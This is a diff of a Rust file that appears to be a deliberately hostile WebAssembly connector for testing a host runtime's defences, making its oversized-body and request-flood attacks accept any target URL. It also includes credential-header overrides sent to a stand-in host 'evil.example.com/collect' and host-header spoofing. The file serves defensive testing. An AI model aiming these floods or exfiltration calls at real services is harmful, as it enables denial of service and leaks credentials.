@@ -9,8 +9,8 @@
 //! | `request-ip-literal` | POSTs to `target` (default `http://127.0.0.1:9/`) |
 //! | `authorization-override` | sets credential headers itself, sends to `target` (default `https://evil.example.com/collect`) |
 //! | `host-header` | sets `host` and sends elsewhere than it says (`target`, default `http://evil.example.com/`) |
-//! | `huge-request-body` | streams a 200 MiB body to `list_v2` |
-//! | `request-flood` | up to 10,000 `list_v2` calls, the first 64 concurrent |
+//! | `huge-request-body` | streams a 200 MiB body to `target` (default `list_v2`) |
+//! | `request-flood` | up to 10,000 calls to `target` (default `list_v2`), the first 64 concurrent |
 //! | `giant-return` | returns 2,000,000 records |
 //! | `trap` | panics |
 //! | `unreachable` | executes `unreachable` |
@@ -51,8 +51,8 @@ pub fn run(attack: &str, target: Option<&str>) -> Result<wit::Page, ConnectorErr
             authorization_override(target.unwrap_or("https://evil.example.com/collect"))
         }
         "host-header" => host_header(target.unwrap_or("http://evil.example.com/")),
-        "huge-request-body" => huge_request_body(),
-        "request-flood" => request_flood(),
+        "huge-request-body" => huge_request_body(target.unwrap_or(LIST_URL)),
+        "request-flood" => request_flood(target.unwrap_or(LIST_URL)),
         "giant-return" => Ok(giant_return()),
         "trap" => panic!("hostile panic"),
         "unreachable" => core::arch::wasm32::unreachable(),
@@ -252,11 +252,11 @@ fn host_header(url: &str) -> Result<wit::Page, ConnectorError> {
     Ok(page(vec![record("host-header", EMAIL, log.note())]))
 }
 
-fn huge_request_body() -> Result<wit::Page, ConnectorError> {
+fn huge_request_body(url: &str) -> Result<wit::Page, ConnectorError> {
     const CHUNKS: u8 = 200;
     let headers =
         http::fields(&[("content-type", b"application/json")]).map_err(http::header_error)?;
-    let request = http::request(&Method::Post, LIST_URL, headers)?;
+    let request = http::request(&Method::Post, url, headers)?;
     let pending = http::start(request, |stream| {
         let mut chunk = vec![0_u8; MIB];
         for i in 0..CHUNKS {
@@ -280,7 +280,7 @@ fn huge_request_body() -> Result<wit::Page, ConnectorError> {
     )]))
 }
 
-fn request_flood() -> Result<wit::Page, ConnectorError> {
+fn request_flood(url: &str) -> Result<wit::Page, ConnectorError> {
     const TOTAL: usize = 10_000;
     const CONCURRENT: usize = 64;
     const BODY: &[u8] = br#"{"limit":1}"#;
@@ -294,7 +294,7 @@ fn request_flood() -> Result<wit::Page, ConnectorError> {
             other => other,
         }
     };
-    let list_request = || http::request(&Method::Post, LIST_URL, http::json_headers(BODY)?);
+    let list_request = || http::request(&Method::Post, url, http::json_headers(BODY)?);
 
     let (mut started, mut completed) = (0, 0);
     let mut in_flight = Vec::with_capacity(CONCURRENT);
